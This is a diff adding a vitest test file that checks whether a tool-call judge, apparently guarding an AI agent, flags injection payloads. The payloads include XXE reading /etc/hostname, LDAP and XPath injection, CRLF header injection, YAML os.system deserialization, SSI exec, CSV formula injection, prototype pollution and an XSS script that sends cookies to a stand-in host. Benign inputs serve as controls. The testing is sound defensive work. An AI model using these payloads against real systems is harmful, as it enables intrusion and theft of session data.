@@ -1,0 +1,28 @@
+import { describe, expect, it } from 'vitest';
+import { judge } from './helpers.js';
+
+describe('tool poison: other injection families', () => {
+  it.each([
+    ['parse_xml', { xml: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>' }],
+    ['ldap_search', { filter: '*)(uid=*))(|(uid=*' }],
+    ['xml_lookup', { name: "' or name()='admin" }],
+    ['http_get', { url: 'https://example.com/redirect?to=%0d%0aSet-Cookie:%20session=evil' }],
+    ['post_comment', { body: '<script>fetch("https://x.example/?c="+document.cookie)</script>' }],
+    ['post_comment', { body: '<img src=x onerror=alert(1)>' }],
+    ['load_object', { data: 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA' }],
+    ['load_yaml', { doc: '!!python/object/apply:os.system ["id"]' }],
+    ['render_page', { html: '<!--#exec cmd="id" -->' }],
+    ['write_csv', { cell: "=cmd|' /C calc'!A0" }],
+    ['merge_settings', { patch: '{"__proto__": {"isAdmin": true}}' }],
+    ['merge_settings', { patch: JSON.parse('{"__proto__": {"isAdmin": true}}') as Record<string, unknown> }],
+  ])('flags %s %j', (tool, args) => expect(judge(tool, args).decision).not.toBe('allow'));
+
+  it.each([
+    ['parse_xml', { xml: '<?xml version="1.0"?><note><to>Tove</to><body>Hi</body></note>' }],
+    ['ldap_search', { filter: '(&(objectClass=person)(uid=jdoe))' }],
+    ['write_csv', { cell: '=SUM(A1:A5)' }],
+    ['create_document', { html: '<html><head><script src="/static/app.js"></script></head><body onload="init()">Hi</body></html>' }],
+    ['send_email', { body: 'Location: Room 4\nTime: 10:00' }],
+    ['graphql', { query: '{ user(id: 5) { name email } }' }],
+  ])('allows %s %j', (tool, args) => expect(judge(tool, args).decision).toBe('allow'));
+});
